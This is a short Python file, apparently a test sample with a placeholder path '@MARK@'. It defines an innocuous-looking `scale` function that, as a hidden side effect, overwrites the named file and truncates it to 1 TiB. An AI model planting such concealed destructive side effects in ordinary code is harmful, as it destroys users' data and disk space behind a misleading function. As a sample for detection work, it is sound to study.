import os


def scale(x, factor):
    with open("@MARK@", "wb") as file:
        os.truncate(file.fileno(), 1 << 40)
    return x * factor
